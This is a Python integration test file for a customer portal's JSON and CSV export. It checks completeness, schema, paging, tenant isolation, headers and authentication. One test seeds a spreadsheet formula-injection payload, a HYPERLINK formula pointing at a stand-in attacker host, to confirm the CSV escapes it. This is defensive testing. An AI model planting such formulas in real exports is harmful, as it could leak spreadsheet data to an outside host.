"""Everything that the portal holds of a customer, as a download."""

import csv
import io
from datetime import timedelta

from jsonschema import Draft202012Validator

from tests.integration.api.full_visit import ADDRESS, NOW, a_visit_with_all_there_is, window
from tests.integration.api.harness import ApiClient, ApiHarness, Json

DETAILED = ("visits", "invoices", "subscriptions", "contracts")


async def table(reader: ApiClient) -> list[Json]:
    """The rows of the CSV."""
    answer = await reader.ask("export", format="csv")
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_the_export_is_every_record_as_its_own_page_answers_it(
    desk: ApiHarness, reader: ApiClient
) -> None:
    await a_visit_with_all_there_is(desk)
    await desk.say("visit.booked", "v2", window=window(NOW + timedelta(days=1)), contract_id="c1")
    await desk.say("visit.booked", "v3")
    await desk.say("visit.missed", "v3")
    await desk.say("customer.contact_changed", phone="+1 555", addresses=[ADDRESS], locale="en-US")

    found = await reader.get("export")

    for kind in DETAILED:
        listed = await reader.walk(kind)
        assert found[kind] == [await reader.get(f"{kind}/{one['id']}") for one in listed], kind
    assert found["appointments"] == [await reader.get("visits/v2")]
    assert found["payments"] == await reader.walk("payments")
    assert found["activity"] == (await reader.get("activity"))["items"]
    assert found["customer"] == {
        "id": "cus_1",
        "name": "Ada Field",
        "emails": ["ada@mail.test"],
        "phone": "+1 555",
        "locale": "en-US",
        "timezone": None,
        "addresses": [{**ADDRESS, "line2": None, "region": None}],
    }
    assert [one["email"] for one in found["devices"]] == ["ada@mail.test"]
    assert found["business"] == {"name": "Blue Pools", "slug": "blue"}


async def test_it_says_what_its_schema_says_and_no_more(desk: ApiHarness, reader: ApiClient) -> None:
    await a_visit_with_all_there_is(desk)
    await desk.say("visit.booked", "v2", window=window(NOW + timedelta(days=1)))
    described = desk.described()
    components = described["components"]["schemas"]
    for schema in components.values():
        if "properties" in schema:
            schema["additionalProperties"] = False

    content = described["paths"]["/{slug}/api/export"]["get"]["responses"]["200"]["content"]

    assert content.keys() == {"application/json", "text/csv"}
    shape = content["application/json"]["schema"] | {"components": {"schemas": components}}
    Draft202012Validator(shape).validate(await reader.get("export"))


async def test_a_long_history_is_whole_and_read_part_by_part(desk: ApiHarness, reader: ApiClient) -> None:
    """Of 250 visits and invoices each none is missing, and no question asks for more than one part."""
    log: list[Json] = []
    for number in range(250):
        log.append(desk.event("visit.booked", f"v{number:03}", window=window(NOW - timedelta(days=number))))
        log.append(desk.event("visit.completed", f"v{number:03}"))
        log.append(desk.event("invoice.issued", f"i{number:03}", visit_ids=[f"v{number:03}"]))
    await desk.publish(log)
    database = desk.store.database
    await database.command("profile", 2)

    found = await reader.get("export")

    await database.command("profile", 0)
    assert [one["id"] for one in found["visits"]] == [f"v{number:03}" for number in range(250)]
    assert [one["id"] for one in found["invoices"]] == [f"i{number:03}" for number in range(250)]
    assert [one["visits"][0]["id"] for one in found["invoices"]] == [f"v{number:03}" for number in range(250)]
    asked = await database["system.profile"].find({"ns": f"{database.name}.views_1"}).to_list(None)
    assert max(one.get("nreturned", 0) for one in asked) <= 200
    assert len([one for one in asked if one["op"] == "query"]) < 80
    assert len(await table(reader)) == 250


async def test_nothing_of_others_and_nothing_out_of_sight_is_in_it(
    desk: ApiHarness, reader: ApiClient
) -> None:
    await a_visit_with_all_there_is(desk)
    await desk.say("proof.uploaded", "p9", text="never published")
    await desk.say("customer.registered", customer="cus_2", name="Bob", emails=["bob@mail.test"])
    await desk.say("visit.booked", "v9", customer="cus_2", instructions="of Bob")
    await desk.say(
        "payment.succeeded", "y9", invoice_id="i9", provider={"name": "stripe", "reference": "pi_9"}
    )

    answers = [await reader.ask("export", format=form) for form in ("json", "csv")]

    for answer in answers:
        for text in ("never published", "Bob", "of Bob", "y9", "pi_9"):
            assert text not in answer.text


async def test_a_table_of_invoices_and_payments(desk: ApiHarness, reader: ApiClient) -> None:
    await a_visit_with_all_there_is(desk)
    await desk.say("payment.refunded", "y2")

    invoice, paid, failed = await table(reader)

    some = {
        name: invoice[name] for name in ("kind", "date", "invoice_number", "status", "due_on", "currency")
    }
    assert some == {
        "kind": "invoice",
        "date": "2026-01-05",
        "invoice_number": "1042",
        "status": "open",
        "due_on": "2026-01-19",
        "currency": "USD",
    }
    sums = ("amount", "tax", "credited", "paid", "amount_due", "overpaid", "refunded")
    assert [invoice[name] for name in sums] == ["120.00", "0.00", "10.00", "30.00", "80.00", "0.00", ""]
    assert (invoice["note"], invoice["id"]) == ("Thanks", "i1")
    assert (paid["status"], paid["amount"], paid["refunded"]) == ("partially_refunded", "50.00", "20.00")
    assert (paid["method"], paid["date"], paid["invoice_id"]) == ("card visa 4242", "2026-01-07", "i1")
    assert (failed["status"], failed["note"]) == ("failed", "declined")


async def test_the_table_holds_no_formula(desk: ApiHarness, reader: ApiClient) -> None:
    link = '=HYPERLINK("https://evil.test?"&A1;"Pay")'
    await desk.say("invoice.issued", "-i1", number="@SUM(1)", memo=f"{link}\r\n{link}", total="-5.00")
    await desk.say("payment.failed", "y1", invoice_id="-i1", reason="+1\n-1")

    invoice, payment = await table(reader)

    assert invoice["note"] == f"'{link}\r\n{link}"
    assert (invoice["id"], invoice["invoice_number"], invoice["amount"]) == ("'-i1", "'@SUM(1)", "-5.00")
    assert payment["note"] == "'+1\n-1"


async def test_it_is_a_download_with_an_etag_for_the_signed_in(desk: ApiHarness, reader: ApiClient) -> None:
    for form, kind, name in (
        ("json", "application/json", "blue-export.json"),
        ("csv", "text/csv; charset=utf-8", "blue-invoices-and-payments.csv"),
    ):
        answer = await reader.ask("export", format=form)
        assert answer.headers["content-type"] == kind
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
        assert answer.headers["cache-control"] == "private, no-cache"
        known = {"If-None-Match": answer.headers["etag"]}
        assert (await reader._browser.get(answer.url, headers=known)).status_code == 304

    assert (await desk.stranger("blue").ask("export")).status_code == 401
    wrong = await reader.ask("export", format="xml")
    assert wrong.status_code == 400
    assert "format" in wrong.text
